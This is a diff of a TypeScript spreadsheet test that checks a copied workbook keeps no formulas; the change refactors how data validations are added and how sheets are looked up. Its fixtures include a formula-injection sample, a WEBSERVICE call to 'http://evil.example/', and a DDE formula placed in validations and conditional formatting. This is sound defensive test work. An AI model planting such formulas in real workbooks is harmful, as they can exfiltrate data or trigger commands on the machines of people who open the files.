@@ -108,10 +108,12 @@ describe('no formula in a copy of a workbook', () => {
       ['Zhang San', 'zs@example.com', 'CEO', 'ServiceMessage', '=only text, typed with a quote'],
       ['Bob', 'bob@example.com', 'cto', 'FaultMessage', { formula: 'WEBSERVICE("http://evil.example/")', result: '' }],
     ]);
-    contacts.dataValidations.add('C2:C9', { type: 'list', allowBlank: true, formulae: ['"CEO,Other,TechnicalDirector"'] });
-    contacts.dataValidations.add('D2:D9', { type: 'list', allowBlank: true, formulae: [DDE] });
-    contacts.dataValidations.add('F2:F9', { type: 'list', allowBlank: true, formulae: ["'Job titles'!$A$1:$A$6"] });
-    contacts.dataValidations.add('G2:G9', { type: 'list', allowBlank: true, formulae: ["'[1]Other book'!$A$1:$A$6"] });
+    // exceljs has this, its types do not.
+    const validations = (contacts as unknown as { dataValidations: { add(range: string, validation: ExcelJS.DataValidation): void } }).dataValidations;
+    validations.add('C2:C9', { type: 'list', allowBlank: true, formulae: ['"CEO,Other,TechnicalDirector"'] });
+    validations.add('D2:D9', { type: 'list', allowBlank: true, formulae: [DDE] });
+    validations.add('F2:F9', { type: 'list', allowBlank: true, formulae: ["'Job titles'!$A$1:$A$6"] });
+    validations.add('G2:G9', { type: 'list', allowBlank: true, formulae: ["'[1]Other book'!$A$1:$A$6"] });
     contacts.addConditionalFormatting({
       ref: 'A2:A9',
       rules: [{ type: 'expression', priority: 1, formulae: [DDE], style: { fill: { type: 'pattern', pattern: 'solid', bgColor: { argb: 'FFFF0000' } } } }],
@@ -147,12 +149,12 @@ describe('no formula in a copy of a workbook', () => {
 
     const cells = await cellsOf(written);
     expect(cells.filter((cell) => cell.type === ExcelJS.ValueType.Formula)).toEqual([]);
-    const value = (address: string, sheet = 0) => cells.filter((cell) => cell.worksheet.orderNo === sheet && cell.address === address).map((cell) => cell.value);
+    const value = (address: string, sheet = 'Contacts') => cells.filter((cell) => cell.worksheet.name === sheet && cell.address === address).map((cell) => cell.value);
     expect(value('B2')).toEqual(['ann@example.com']);
     expect(value('E2')).toEqual([0]);
     expect(value('E3')).toEqual(['=only text, typed with a quote']);
     expect(value('E4')).toEqual([]); // its cached result was empty text
-    expect(value('B1', 1)).toEqual([2]);
+    expect(value('B1', 'Sums')).toEqual([2]);
   });
 });
 
